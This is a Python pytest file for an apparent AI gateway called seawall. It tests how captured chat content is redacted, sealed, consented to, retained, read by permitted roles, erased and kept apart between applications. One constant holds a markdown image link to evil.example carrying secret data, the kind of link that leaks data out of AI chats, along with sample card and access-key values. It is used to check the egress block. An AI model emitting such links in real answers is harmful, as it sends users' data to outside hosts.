"""Captured content: sealed, bound to its record, as the end user allows, read on record only."""

import hashlib
import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2 as httpx
import openai
import pytest
import sqlalchemy as sa
from gateway_support import Gateway, Provider, chunks, gateway_of, make_policy, message
from places import files_of

from seawall.cli import main
from seawall.core.errors import IntegrityError, NotFoundError
from seawall.core.roles import OPERATOR, Role
from seawall.store.captures import list_captures, purge_captures, read_capture
from seawall.store.db import open_for_reading
from seawall.store.keys import create_key
from seawall.store.kills import list_kills
from seawall.store.sealed import rotate_master
from seawall.store.tables import captures
from seawall.store.verify import verify

CARD = "4111 1111 1111 1111"
TOKEN = "AKIA" + "IOSFODNN7QWERTYU"
ASKED = f"Charge {CARD}, please, my parcel is late."
EXFILTRATION = "![x](https://evil.example/?q=secretdata)"


@pytest.fixture
def redacting(provider: Provider, tmp_path: Path) -> Iterator[Gateway]:
    yield from started(provider, tmp_path, "redacted")


@pytest.fixture
def keeping(provider: Provider, tmp_path: Path) -> Iterator[Gateway]:
    yield from started(provider, tmp_path, "full")


def started(provider: Provider, folder: Path, mode: str, more: str = "") -> Iterator[Gateway]:
    provider.reset()
    extra = f"audit: {{capture: {mode}}}\nconsent: {{training_opt_out: false}}\n{more}"
    with gateway_of(make_policy(provider, extra=extra), provider, folder) as gateway:
        yield gateway


def ask(gateway: Gateway, text: str = ASKED, user: str = "customer-1", **fields: Any) -> str:
    """Return the request's id, whatever the answer is."""
    said: Any = [{"role": "user", "content": text}]
    try:
        with gateway.client().chat.completions.with_streaming_response.create(
            model="small", messages=said, user=user, **fields
        ) as raw:
            raw.read()
            return str(raw.headers["x-seawall-request-id"])
    except openai.APIStatusError as error:
        return str(error.response.headers["x-seawall-request-id"])


def read(gateway: Gateway, request_id: str) -> dict[str, str]:
    """Return what is kept, by pointer; what is withheld in brackets."""
    found = read_capture(gateway.store, request_id, actor=OPERATOR, env={})
    return {
        item["pointer"]: item.get("text", f"[{item.get('withheld')}]")
        for item in found.content["items"]
    }


def on_disk(gateway: Gateway, text: bytes) -> bool:
    """Say whether a text stands in a file of the data folder, or of the database's tables."""
    return any(text in path.read_bytes() for path in files_of(gateway.store.folder))


def test_redacted_keeps_what_the_guard_left(redacting: Gateway) -> None:
    redacting.provider.script = message(f"Use the token {TOKEN} for that.")
    request_id = ask(redacting)
    kept = read(redacting, request_id)
    question, answer = kept["/messages/0/content"], kept["/choices/0/message/content"]
    assert question.startswith("Charge ") and question.endswith(" my parcel is late.")
    assert answer.startswith("Use the token ") and answer.endswith(" for that.")
    assert CARD not in question and TOKEN not in answer


def test_full_keeps_what_was_said(keeping: Gateway) -> None:
    keeping.provider.script = message(f"Use the token {TOKEN} for that.")
    kept = read(keeping, ask(keeping))
    assert kept["/messages/0/content"] == ASKED
    assert kept["/choices/0/message/content"] == f"Use the token {TOKEN} for that."


@pytest.mark.parametrize("stream", [False, True])
def test_what_was_blocked_is_withheld_from_redacted_content(
    redacting: Gateway, stream: bool
) -> None:
    text = f"Here it is. And now the rest of it. {EXFILTRATION}"
    script = [*chunks({"content": text[:20]}, {"content": text[20:]}), "[DONE]"]
    redacting.provider.script = script if stream else message(text)
    kept = read(redacting, ask(redacting, stream=stream))
    assert "evil.example" not in str(kept)
    answer = kept.get("/choices/0/message/content", "[]")
    assert answer == ("Here it is. And now the rest of it. " if stream else "[block by CTL-EGRESS]")


@pytest.mark.parametrize("mode", ["redacted", "full"])
def test_a_stream_is_kept_as_it_was_released_or_as_it_came(
    provider: Provider, tmp_path: Path, mode: str
) -> None:
    for gateway in started(provider, tmp_path, mode):
        pieces = ["A first sentence. ", f"The token is {TOKEN}", " as you know. ", "Bye."]
        gateway.provider.script = [*chunks(*({"content": p} for p in pieces)), "[DONE]"]
        answer = read(gateway, ask(gateway, stream=True))["/choices/0/message/content"]
        if mode == "full":
            assert answer == "".join(pieces)
        else:
            assert answer.startswith("A first sentence. ") and answer.endswith("Bye.")
            assert TOKEN not in answer


def test_content_is_sealed_and_its_record_names_it(keeping: Gateway) -> None:
    request_id = ask(keeping)
    assert not on_disk(keeping, b"parcel is late")
    with keeping.store.read() as connection:
        row = connection.execute(sa.select(captures)).one()
    record = keeping.record(request_id)
    assert record["capture"]["sha256"] == hashlib.sha256(row.sealed).hexdigest()
    assert "parcel" not in json.dumps(keeping.records())


def test_changed_or_moved_content_does_not_open(keeping: Gateway) -> None:
    first, second = ask(keeping), ask(keeping, "Another question.")
    with keeping.store.write() as connection:
        sealed = connection.scalar(
            sa.select(captures.c.sealed).where(captures.c.request_id == second)
        )
        connection.execute(
            sa.update(captures).where(captures.c.request_id == first).values(sealed=sealed)
        )
    with pytest.raises(IntegrityError):
        read(keeping, first)
    assert read(keeping, second)["/messages/0/content"] == "Another question."


def test_nothing_is_kept_unless_the_policy_says_so(gateway: Gateway) -> None:
    request_id = ask(gateway)
    assert "capture" not in gateway.record(request_id)
    assert request_id not in {found.request_id for found in list_captures(gateway.store)}


def consent(gateway: Gateway, user: str, **choice: Any) -> httpx.Response:
    return httpx.post(
        f"{gateway.url}/seawall/consent", json={"user": user, **choice},
        headers={"authorization": f"Bearer {gateway.key}"},
    )  # fmt: skip


def test_who_opts_out_is_neither_kept_nor_trained_on(keeping: Gateway) -> None:
    assert consent(keeping, "customer-1", opt_out=True).status_code == 200
    one, other = ask(keeping), ask(keeping, user="customer-2")
    assert [found.request_id for found in list_captures(keeping.store)] == [other]
    assert keeping.record(one)["consent"] == {"opt_out": True, "retention": "long"}
    assert [body.get("store") for body in keeping.provider.seen] == [False, None]
    changed = [r for r in keeping.records() if r.get("action") == "consent.set"]
    assert "customer-1" not in json.dumps(changed)


def test_a_choice_reaches_what_was_kept_before_it(
    keeping: Gateway, capsys: pytest.CaptureFixture[str]
) -> None:
    mine, other = ask(keeping), ask(keeping, user="customer-2")
    assert consent(keeping, "customer-1", opt_out=False, retention="short").status_code == 200
    kept = {one.request_id: one.expires - one.created for one in list_captures(keeping.store)}
    assert kept == {mine: 7 * 86_400, other: 366 * 86_400}
    assert consent(keeping, "customer-1", opt_out=True).status_code == 200
    assert [one.request_id for one in list_captures(keeping.store)] == [other]
    where = ("customer-2", "--application", "shop", "--data", str(keeping.store.folder))
    assert main.run(["consent", "set", *where, "--opt-out"]) == 0
    assert list_captures(keeping.store) == []


@pytest.mark.parametrize(
    ("application", "user", "days"),
    [("long", None, 366), ("long", "short", 7), ("standard", "long", 30), ("long", "none", 0),
     ("none", "long", 0)],
)  # fmt: skip
def test_the_shorter_retention_class_of_application_and_user_counts(
    provider: Provider, tmp_path: Path, application: str, user: str | None, days: int
) -> None:
    policy = make_policy(
        provider, extra=f"audit: {{capture: full, retention: {application}}}\n"
                        "conversations: {keep_hours: 8784}\n",
    )  # fmt: skip
    provider.reset()
    with gateway_of(policy, provider, tmp_path) as gateway:
        if user is not None:
            assert consent(gateway, "customer-1", opt_out=False, retention=user).is_success
        request_id = ask(gateway)
        found = {one.request_id: one for one in list_captures(gateway.store)}
        assert bool(found) == bool(days)
        if days:
            assert found[request_id].expires - found[request_id].created == days * 86_400
        # The same place decides about conversations.
        response = gateway.client().responses.create(model="small", input="Hi", user="customer-1")
        assert response.model_dump()["store"] == bool(days)


@pytest.mark.parametrize("surface", ["chat", "embeddings"])
def test_every_record_tells_the_choice_that_counted(gateway: Gateway, surface: str) -> None:
    user = f"chooser-{surface}"

    def recorded() -> Any:
        if surface == "chat":
            return gateway.record(ask(gateway, user=user))["consent"]
        used = {"prompt_tokens": 9, "total_tokens": 9}
        vectors = {"data": [{"index": 0, "embedding": [0.5]}], "usage": used}
        gateway.provider.script = lambda body: vectors
        gateway.client().embeddings.create(model="small", input="a wall", user=user)
        return gateway.exchanges()[-1]["consent"]

    assert recorded() == {"opt_out": False, "retention": "long"}
    assert consent(gateway, user, opt_out=True, retention="short").status_code == 200
    assert recorded() == {"opt_out": True, "retention": "short"}


def test_a_provider_keeps_nothing_of_who_lets_nobody_keep_anything(keeping: Gateway) -> None:
    ask(keeping, store=True)
    assert consent(keeping, "customer-1", opt_out=False, retention="none").status_code == 200
    ask(keeping, store=True)
    assert consent(keeping, "customer-1", opt_out=False, retention="short").status_code == 200
    ask(keeping, store=True)
    assert [body["store"] for body in keeping.provider.seen] == [True, False, True]


def test_a_choice_that_cannot_be_read_keeps_nothing(
    keeping: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: Any) -> Any:
        raise sa.exc.OperationalError("SELECT", {}, Exception("locked"))

    monkeypatch.setattr("seawall.gateway.retain.consent_of", broken)
    request_id = ask(keeping)
    assert keeping.record(request_id)["result"] == "answered"
    assert list_captures(keeping.store) == []


@pytest.mark.parametrize(
    "body",
    [{"opt_out": True}, {"user": "u", "opt_out": "yes"}, {"user": "u", "opt_out": True, "x": 1},
     {"user": "u", "opt_out": True, "retention": "ever"}, {"user": "", "opt_out": True},
     {"user": "u", "opt_out": True, "retention": ["short"]},
     {"user": "u", "opt_out": True, "retention": {}}],
)  # fmt: skip
def test_choices_that_cannot_be(gateway: Gateway, body: dict[str, Any]) -> None:
    response = httpx.post(
        f"{gateway.url}/seawall/consent", json=body,
        headers={"authorization": f"Bearer {gateway.key}"},
    )  # fmt: skip
    assert response.status_code == 400


def admin(gateway: Gateway, role: Role, method: str, path: str, body: Any = None) -> Any:
    key = create_key(gateway.store, application="shop", function="", scopes=("admin",),
                     roles=(role,))[1]  # fmt: skip
    return httpx.request(
        method, f"http://127.0.0.1:{gateway.port}/admin/v1{path}",
        content=None if body is None else json.dumps(body),
        headers={"authorization": f"Bearer {key}"},
    )  # fmt: skip


def test_only_some_roles_read_and_each_reading_is_on_record(keeping: Gateway) -> None:
    request_id = ask(keeping)
    for role in (Role.AUDITOR, Role.DEVELOPER):
        response = admin(keeping, role, "POST", f"/captures/{request_id}/read")
        assert (response.status_code, "parcel" in response.text) == (403, False)
    response = admin(keeping, Role.RISK_OFFICER, "POST", f"/captures/{request_id}/read")
    assert "parcel is late" in response.text
    readings = [r for r in keeping.records() if r.get("action") == "capture.read"]
    assert [(r["target"], r["roles"]) for r in readings] == [(request_id, ["risk-officer"])]
    assert readings[0]["actor"].startswith("key:")


def test_a_reading_that_cannot_be_noted_shows_nothing(
    keeping: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: Any) -> Any:
        reason = Exception("disk full")
        reason.sqlstate = "53100"  # type: ignore[attr-defined]  # it answers: it is not away
        raise sa.exc.OperationalError("INSERT", {}, reason)

    request_id = ask(keeping)
    monkeypatch.setattr("seawall.store.captures.note_change", full)
    response = admin(keeping, Role.OWNER, "POST", f"/captures/{request_id}/read")
    assert (response.status_code, "parcel" in response.text) == (503, False)


def test_erased_content_is_gone_from_the_disk_and_the_chain_verifies(
    keeping: Gateway, capsys: pytest.CaptureFixture[str]
) -> None:
    mine, also_mine, other = ask(keeping), ask(keeping), ask(keeping, user="customer-2")
    with keeping.store.read() as connection:
        sealed = dict(connection.execute(sa.select(captures.c.request_id, captures.c.sealed)).all())  # type: ignore[arg-type]
    path = str(keeping.store.folder)
    assert main.run(["capture", "erase", mine, "--data", path]) == 0
    assert admin(keeping, Role.OWNER, "POST", "/captures/erase", {"user": "customer-1"}).json() == {
        "erased": 1
    }
    for request_id in (mine, also_mine):
        assert not on_disk(keeping, sealed[request_id][64:128])
        with pytest.raises(NotFoundError):
            read(keeping, request_id)
    assert on_disk(keeping, sealed[other][64:128])
    assert main.run(["audit", "erase", "customer-2", "--data", path, "--json"]) == 0
    assert '"captures": 1' in capsys.readouterr().out.replace('":1', '": 1')
    assert not on_disk(keeping, sealed[other][64:128])
    assert verify(open_for_reading(keeping.store.folder)).ok


def test_what_has_expired_is_not_shown_and_then_destroyed(keeping: Gateway) -> None:
    request_id = ask(keeping)
    later = int(time.time()) + 367 * 86_400
    assert list_captures(keeping.store, now=later) == []
    assert purge_captures(keeping.store) == 0
    assert read(keeping, request_id)
    assert purge_captures(keeping.store, now=later) == 1
    with pytest.raises(NotFoundError):
        read(keeping, request_id)


def test_content_opens_after_a_restart_and_under_a_new_master_key(
    provider: Provider, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for gateway in started(provider, tmp_path, "full"):
        request_id = ask(gateway)
    for gateway in started(provider, tmp_path, "full"):
        rotate_master(gateway.store, env={})
        again = ask(gateway, "After the rotation.")
        assert read(gateway, request_id)["/messages/0/content"] == ASKED
        assert read(gateway, again)["/messages/0/content"] == "After the rotation."
        path = str(gateway.store.folder)
        assert main.run(["capture", "show", request_id, "--data", path]) == 0
        assert ASKED in capsys.readouterr().out
        assert main.run(["capture", "list", "--user", "customer-1", "--data", path, "--json"]) == 0
        assert [one["request_id"] for one in json.loads(capsys.readouterr().out)] == [
            again, request_id
        ]  # fmt: skip


def test_a_long_conversation_is_cut(provider: Provider, tmp_path: Path) -> None:
    policy = make_policy(provider, extra="audit: {capture: full, max_kib: 1}\n")
    provider.reset()
    with gateway_of(policy, provider, tmp_path) as gateway:
        request_id = ask(gateway, "a " * 4000)
        found = read_capture(gateway.store, request_id, actor=OPERATOR, env={})
        assert found.content["cut"] is True
        assert sum(len(item["text"]) for item in found.content["items"]) == 1024


def test_the_command_sets_and_shows_a_choice(
    keeping: Gateway, capsys: pytest.CaptureFixture[str]
) -> None:
    where = ("customer-1", "--application", "shop", "--data", str(keeping.store.folder), "--json")
    assert main.run(["consent", "set", *where, "--opt-out", "--retention", "short"]) == 0
    capsys.readouterr()
    assert main.run(["consent", "show", *where]) == 0
    shown = json.loads(capsys.readouterr().out)
    assert time.time() - 60 < shown.pop("changed") <= time.time()
    assert shown == {"opt_out": True, "retention": "short"}
    ask(keeping)
    assert list_captures(keeping.store) == []


def test_the_admin_api_reaches_nothing_of_another_application(keeping: Gateway) -> None:
    mine = ask(keeping)
    theirs = keeping.keys["stranger"].split("_")[1]
    seen = [key["key_id"] for key in admin(keeping, Role.OWNER, "GET", "/keys").json()["data"]]
    assert keeping.key.split("_")[1] in seen and theirs not in seen
    assert mine in str(admin(keeping, Role.OWNER, "GET", "/captures").json())
    with keeping.store.write() as connection:
        connection.execute(sa.update(captures).values(application="other"))
    wanted: list[tuple[str, str, Any]] = [
        ("POST", f"/keys/{theirs}/rotate", {}), ("POST", f"/keys/{theirs}/revoke", None),
        ("POST", "/kills", {"kind": "key", "name": theirs, "reason": "mine now"}),
        ("POST", f"/captures/{mine}/read", None), ("DELETE", f"/captures/{mine}", None),
    ]  # fmt: skip
    for method, path, body in wanted:
        answer = admin(keeping, Role.OWNER, method, path, body)
        assert (answer.status_code, answer.json()["error"]["code"]) == (404, "not_found"), path
    assert admin(keeping, Role.OWNER, "GET", "/captures").json()["data"] == []
    assert len(list_captures(keeping.store)) == 1 and list_kills(keeping.store) == []
